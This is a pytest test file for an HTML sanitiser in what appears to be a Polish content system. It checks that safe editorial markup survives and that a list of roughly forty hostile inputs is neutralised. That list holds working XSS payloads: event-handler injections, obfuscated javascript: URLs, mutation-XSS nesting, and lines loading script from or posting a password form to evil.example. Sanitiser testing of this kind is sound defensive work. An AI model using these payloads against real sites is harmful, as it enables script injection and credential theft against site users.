"""content.markup: hostile and careless HTML on the way in, a short list of elements on the way out (X8, X9)."""

from __future__ import annotations

import pytest

from campaigns.content.markup import sanitised, words_of

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'//>",
    "<svg onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href='javascript:alert(1)'>x</math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html;base64,PHNjcmlwdD4='></object>",
    "<embed src='https://evil.example/x.swf'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='https://fine.example' onclick='alert(1)'>x</a>",
    "<a href='https://fine.example' style='position:fixed;inset:0'>x</a>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p lang='pl\" onmouseover=\"alert(1)'>x</p>",
    "<form action='https://evil.example'><input name=password><button>x</button></form>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css'; p { display: none }</style>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><x xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></x>",
    "<custom-element onfocus=alert(1) tabindex=1>x</custom-element>",
    "<p><table background='javascript:alert(1)'><tr><td>x</td></tr></table></p>",
]
FORBIDDEN_IN_TAGS = ["script", "onerror", "onload", "onclick", "style", "srcdoc", "data:", "vbscript", "img", "form"]


@pytest.mark.parametrize("html", HOSTILE)
def test_sanitised_leaves_nothing_that_could_run_or_load(html: str) -> None:
    tags = "".join(part.split(">")[0] for part in sanitised(html).lower().split("<")[1:])
    assert not [word for word in FORBIDDEN_IN_TAGS if word in tags]


@pytest.mark.parametrize("html", HOSTILE)
def test_sanitised_twice_is_sanitised_once(html: str) -> None:
    assert sanitised(sanitised(html)) == sanitised(html)


@pytest.mark.parametrize(
    "html",
    [
        "<p>Zażółć <strong>gęślą</strong> <em>jaźń</em>.</p>",
        "<h2>Co zrobić</h2><ol><li>Zachowaj dowody.</li></ol>",
        "<ul><li>a</li></ul><blockquote>b</blockquote>",
        '<p><a href="https://cert.pl/?a=1&amp;b=2">CERT Polska</a></p>',
        '<a href="tel:116111">116 111</a> <a href="mailto:redakcja@example.org">x</a>',
        '<p lang="en" dir="ltr">in <span lang="pl-PL">po polsku</span></p>',
        '<q lang="uk">цитата</q><br>',
        "{{ first_name }} {% load x %} ${x} [[first_name|Czytelniku]]",
    ],
)
def test_sanitised_keeps_what_an_editor_may_write(html: str) -> None:
    assert sanitised(html) == html


@pytest.mark.parametrize("href", ["/admin/", "//evil.example", "#top", "x.html", "javascript:1", "ftp://a.example", ""])
def test_sanitised_keeps_the_words_of_a_link_it_cannot_trust(href: str) -> None:
    assert sanitised(f'<a href="{href}">słowa</a>') == "<a>słowa</a>"


def test_sanitised_trims_an_address_pasted_with_spaces() -> None:
    assert sanitised('<a href=" https://cert.pl ">CERT</a>') == '<a href="https://cert.pl">CERT</a>'


@pytest.mark.parametrize("html", ["", "<p></p>", "<p>&nbsp;</p>", "<p><br></p>", "<script>x</script>", "<hr>"])
def test_sanitised_returns_nothing_for_a_text_without_words(html: str) -> None:
    assert sanitised(html) == ""


def test_sanitised_keeps_the_words_of_an_element_it_does_not_know() -> None:
    assert sanitised("<h1>Tytuł</h1><marquee>idzie</marquee>") == "Tytułidzie"


def test_words_of_puts_a_space_between_blocks_and_none_inside_a_word() -> None:
    assert words_of("<p>Jeden &amp; dwa</p><ul><li>trzy</li><li>czte<strong>ry</strong></li></ul>") == (
        "Jeden & dwa trzy cztery"
    )


def test_a_marked_foreign_passage_keeps_its_language_in_every_kind_of_element() -> None:
    marked = '<h2 lang="fr">Oh</h2><ul><li>a <span lang="pt-BR"><strong>b</strong></span></li></ul><blockquote lang="de"><p>c</p></blockquote>'
    assert sanitised(marked) == marked
    assert sanitised('<span lang="\' onx=">d</span>') == "<span>d</span>"
